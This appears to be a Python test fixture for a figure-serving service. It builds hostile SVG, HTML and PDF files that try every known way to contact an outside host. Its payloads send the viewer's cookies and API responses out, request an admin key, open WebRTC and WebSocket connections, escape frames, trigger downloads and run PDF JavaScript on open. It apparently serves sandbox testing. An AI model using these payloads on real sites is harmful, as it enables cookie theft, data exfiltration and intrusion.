"""Documents with every attack that a document can try: each reports to ``elsewhere`` when it succeeds."""

from __future__ import annotations

from collections.abc import Callable

_SCRIPT = """
(() => {{
  const send = path => {{ (new Image()).src = '{elsewhere}/' + path; }};
  send('image');
  try {{ send('cookie?' + encodeURIComponent(document.cookie)); }} catch (e) {{ }}
  try {{ fetch('{elsewhere}/fetch', {{mode: 'no-cors'}}).catch(() => 0); }} catch (e) {{ }}
  try {{ navigator.sendBeacon('{elsewhere}/beacon', document.URL); }} catch (e) {{ }}
  try {{
    fetch('{home}api/contents').then(r => r.text()).then(t => send('api?' + t.slice(0, 40))).catch(() => 0);
    fetch('{home}figserve/api/figures', {{credentials: 'include'}}).then(r => r.text())
      .then(t => send('figures?' + t.slice(0, 40))).catch(() => 0);
    fetch('{home}figserve/api/keys', {{method: 'POST', body: '{{"scopes": ["admin"]}}'}}).catch(() => 0);
  }} catch (e) {{ }}
  try {{ new WebSocket('{elsewhere}/socket'.replace('http', 'ws')); }} catch (e) {{ }}
  try {{ window.open('{elsewhere}/popup'); }} catch (e) {{ }}
  try {{ top.location = '{elsewhere}/top'; }} catch (e) {{ }}
  try {{ parent.location = '{elsewhere}/parent'; }} catch (e) {{ }}
  try {{ document.title = 'evil'; localStorage.evil = 1; }} catch (e) {{ }}
  setTimeout(() => {{ location = '{elsewhere}/self?' + encodeURIComponent(location.href); }}, 50);
}})();
"""
_NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60"'
_BOX = '<rect id="box" width="90" height="60" fill="teal"/>'


def script(elsewhere: str, home: str = "/") -> str:
    return _SCRIPT.format(elsewhere=elsewhere, home=home)


def _svg(inside: str, attributes: str = "") -> Callable[..., str]:
    def make(elsewhere: str, home: str = "/") -> str:
        text = f"<svg {_NAMES} {attributes}>{_BOX}{inside}</svg>"
        return text.replace("EVIL", elsewhere).replace("CODE", script(elsewhere, home))

    return make


SVGS: dict[str, Callable[..., str]] = {
    "script": _svg("<script><![CDATA[CODE]]></script>"),
    "script by address": _svg('<script xlink:href="EVIL/script.js"/>'),
    "onload": _svg("", "onload=\"fetch('EVIL/onload', {mode: 'no-cors'})\""),
    "foreign object": _svg(
        '<foreignObject width="90" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/frame"/>'
        '<img xmlns="http://www.w3.org/1999/xhtml" src="EVIL/picture" onerror="location=\'EVIL/onerror\'"/>'
        '<form xmlns="http://www.w3.org/1999/xhtml" action="EVIL/form"><input name="x"/></form>'
        '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0; url=EVIL/refresh"/>'
        "</foreignObject>"
    ),
    "animate href": _svg(f'<a><animate attributeName="href" values="javascript:fetch(\'EVIL/animate\')"/>{_BOX}</a>'),
    "import": _svg("<style>@import 'EVIL/import.css'; rect { fill: url('EVIL/fill.svg#a'); }</style>"),
    "font": _svg(
        "<style>@font-face { font-family: e; src: url('EVIL/font'); } text { font-family: e }</style>"
        '<text y="30">x</text>'
    ),
    "image": _svg(
        '<image href="EVIL/image" width="9" height="9"/><image xlink:href="EVIL/image2" width="9" height="9"/>'
    ),
    "use": _svg(
        '<use href="EVIL/use.svg#a"/><filter id="f"><feImage href="EVIL/filter"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/>'
    ),
    "stylesheet": lambda elsewhere, home="/": (
        f'<?xml version="1.0"?><?xml-stylesheet href="{elsewhere}/style.css" type="text/css"?>'
        f"<svg {_NAMES}>{_BOX}</svg>"
    ),
}


def html(elsewhere: str, home: str = "/") -> str:
    """Draw a plot as its HTML does, and try every attack."""
    return f"""<!doctype html><html><head><title>plot</title>
<link rel="stylesheet" href="{elsewhere}/style.css"><link rel="prefetch" href="{elsewhere}/prefetch">
<link rel="dns-prefetch" href="{elsewhere}"><link rel="preconnect" href="{elsewhere}">
<base href="{elsewhere}/base/">
</head><body><div id="plot">not drawn</div><script>document.getElementById('plot').textContent = 'drawn';</script>
<img src="{elsewhere}/picture"><iframe src="{elsewhere}/inner"></iframe><object data="{elsewhere}/object"></object>
<embed src="{elsewhere}/embed"><video src="{elsewhere}/video" autoplay></video>
<script src="{elsewhere}/script.js"></script>
<form id="form" action="{elsewhere}/form" method="post"><input name="x" value="1"></form>
<script>try {{ document.getElementById('form').submit(); }} catch (e) {{ }} {script(elsewhere, home)}</script>
<meta http-equiv="refresh" content="0; url={elsewhere}/refresh">
</body></html>"""


_CONNECTING = """<!doctype html><title>plot</title><div id="plot">not drawn</div><script>
(async () => {
  const plot = document.getElementById('plot');
  plot.textContent = 'drawn';
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
    document.head.append(Object.assign(document.createElement('link'), {rel, as: 'script', href: 'EVIL/' + rel}));
  }
  const rules = {prefetch: [{urls: ['EVIL/rule'], eagerness: 'immediate'}], prerender: [{urls: ['EVIL/page']}]};
  document.head.append(Object.assign(document.createElement('script'), {
    type: 'speculationrules', textContent: JSON.stringify(rules)}));
  try {
    const urls = ['turn:HOST?transport=udp', 'turn:HOST?transport=tcp'];
    const iceServers = [{urls, username: 'typed by the viewer', credential: 'x'}, {urls: 'stun:HOST'}];
    const [one, two] = [new RTCPeerConnection({iceServers}), new RTCPeerConnection()];
    const done = new Promise(resolve => {
      one.onicegatheringstatechange = () => { if (one.iceGatheringState === 'complete') resolve(); };
    });
    one.createDataChannel('x');
    await one.setLocalDescription(await one.createOffer());
    await two.setRemoteDescription(one.localDescription);
    await two.setLocalDescription(await two.createAnswer());
    await one.setRemoteDescription(two.localDescription);
    const [address, port] = 'HOST'.split(':');
    const candidate = `candidate:1 1 udp 2113937151 ${address} ${port} typ host`;
    await one.addIceCandidate({candidate, sdpMid: '0'});
    await done;
    plot.textContent = 'gathered';
  } catch (error) { plot.textContent = 'refused'; }
})();
</script>"""


def connecting_html(elsewhere: str) -> str:
    """Return a document that opens connections other than requests; ``#plot`` reports how its WebRTC ended.

    It says ``gathered`` or ``refused``, in that case after all that it could send has been sent.
    """
    return _CONNECTING.replace("EVIL", elsewhere).replace("HOST", elsewhere.partition("://")[2])


_LEAVING = """<!doctype html><title>plot</title><div id="plot">not drawn</div><script>
const plot = document.getElementById('plot');
const INNER = '<script>fetch("EVIL/inner"); location = "EVIL/away"<\\/script><img src="EVIL/child">';
const add = (name, properties, attributes = {}) => {
  const made = Object.assign(document.createElement(name), properties);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  return document.body.appendChild(made);
};
const attempts = [
  () => fetchLater('EVIL/later', {activateAfter: 0}),
  () => add('img', {src: 'EVIL/attributed'}, {attributionsrc: 'EVIL/source'}),
  () => add('a', {href: '#x', ping: 'EVIL/ping'}).click(),
  () => add('a', {href: 'EVIL/blank', target: '_blank'}, {attributionsrc: 'EVIL/click'}).click(),
  () => add('a', {href: 'data:application/octet-stream,x', download: 'evil.exe'}).click(),
  () => add('a', {href: URL.createObjectURL(new Blob(['x'])), download: 'evil.html'}).click(),
  () => add('iframe', {srcdoc: INNER}),
  () => add('iframe', {src: 'data:text/html,' + encodeURIComponent(INNER)}),
  () => add('iframe', {src: URL.createObjectURL(new Blob([INNER], {type: 'text/html'}))}),
  () => add('iframe', {src: 'javascript:fetch("EVIL/scheme")'}),
  () => new Worker(URL.createObjectURL(new Blob(['fetch("EVIL/worker"); importScripts("EVIL/import")']))),
  () => add('style', {textContent: 'body { cursor: url(EVIL/cursor), auto; background: image-set("EVIL/set" 1x) }'}),
  () => document.head.append(Object.assign(document.createElement('meta'), {
    httpEquiv: 'Content-Security-Policy', content: "style-src 'none'; report-uri EVIL/report"})),
  () => navigator.credentials.get({identity: {providers: [{configURL: 'EVIL/login', clientId: 'x'}]}}),
  () => navigator.joinAdInterestGroup({owner: 'EVIL', name: 'x', lifetimeMs: 1e6}),
  () => sharedStorage.worklet.addModule('EVIL/worklet'),
  () => navigator.serviceWorker.register('EVIL/service'),
  () => alert('evil'),
  () => history.back(),
  () => add('form', {action: 'EVIL/top', target: '_top'}).requestSubmit(),
];
(async () => {
  for (const attempt of attempts) {
    try { attempt()?.catch?.(() => 0); } catch (error) { }
    // A navigation ends the one before it.
    await new Promise(resolve => setTimeout(resolve, 50));
  }
  plot.textContent = 'tried';
})();
</script>"""


def leaving_html(elsewhere: str) -> str:
    """Return a document that tries more ways out of its frame, and then says ``tried`` in ``#plot``."""
    return _LEAVING.replace("EVIL", elsewhere)


def pdf(elsewhere: str) -> bytes:
    """Return one page that opens a URL and runs a script when it is opened."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({elsewhere}/open)/Next 5 0 R>>/AA<</WC 5 0 R>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R"
        f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI({elsewhere}/click)>>>>]"
        f"/AA<</O<</S/SubmitForm/F<</FS/URL/F({elsewhere}/submit)>>>>>>>>",
        "<</Length 0>>stream\n\nendstream",
        f"<</S/JavaScript/JS(app.launchURL\\('{elsewhere}/script'\\); this.submitForm\\('{elsewhere}/form'\\);)>>",
    ]
    body, offsets = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        offsets.append(len(body))
        body += f"{number} 0 obj{text}endobj\n".encode()
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    tail = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer<</Size {len(objects) + 1}/Root 1 0 R>>\n"
    return body + tail.encode() + f"startxref\n{len(body)}\n%%EOF\n".encode()
